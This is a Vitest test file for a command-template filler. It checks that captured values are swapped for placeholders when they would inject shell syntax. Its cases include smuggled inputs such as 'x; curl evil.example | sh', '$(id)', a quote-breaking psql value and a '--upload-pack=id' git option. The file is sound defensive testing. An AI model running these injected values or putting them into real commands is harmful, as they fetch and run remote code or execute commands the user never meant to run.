import { expect, test } from 'vitest';
import { fillCommand } from '../../src/classifiers/commands.ts';
import { engine } from '../support/engine.ts';

test.each<[text: string, captures: Record<string, string>, command: string]>([
  ['python -c "import {module}"', { module: 'app.database' }, 'python -c "import app.database"'],
  ['psql -c "… WHERE conname = \'{name}\'"', { name: 'uq_outbox' }, 'psql -c "… WHERE conname = \'uq_outbox\'"'],
  // What captured nothing.
  ['npm ls {package}', {}, 'npm ls PACKAGE'],
  // What a shell would run.
  ['npm ls {package}', { package: 'x; curl evil.example | sh' }, 'npm ls PACKAGE'],
  ['npm ls {package}', { package: '$(id)' }, 'npm ls PACKAGE'],
  ['npm ls {package}', { package: '`id`' }, 'npm ls PACKAGE'],
  ['psql -c "\'{name}\'"', { name: 'x\'"; id; "' }, 'psql -c "\'NAME\'"'],
  // What a command would take for an option.
  ['git ls-remote origin {ref}', { ref: '--upload-pack=id' }, 'git ls-remote origin REF'],
  ['ls {path}', { path: 'a\nb' }, 'ls PATH'],
  // Not the catalogue's.
  ['curl -w "%{time_total}" "$\u007bHOME}"', { time_total: '1', HOME: 'x' }, 'curl -w "%{time_total}" "$\u007bHOME}"'],
])('%s with %j is %s', (text, captures, command) => {
  expect(fillCommand(text, captures)).toBe(command);
});

test('what the catalogue has to verify is commands, not prose', () => {
  const prose = /^(?:run|start|look|the|check|open) (?:the|an?|it|this|server|failing|for)\b/i;
  const all = engine.matcher.signatures.flatMap(({ id, verify }) => verify.map((command) => `${id}: ${command}`));
  expect(all.length).toBeGreaterThan(500);
  expect(all.filter((one) => prose.test(one.slice(one.indexOf(': ') + 2)))).toEqual([]);
});
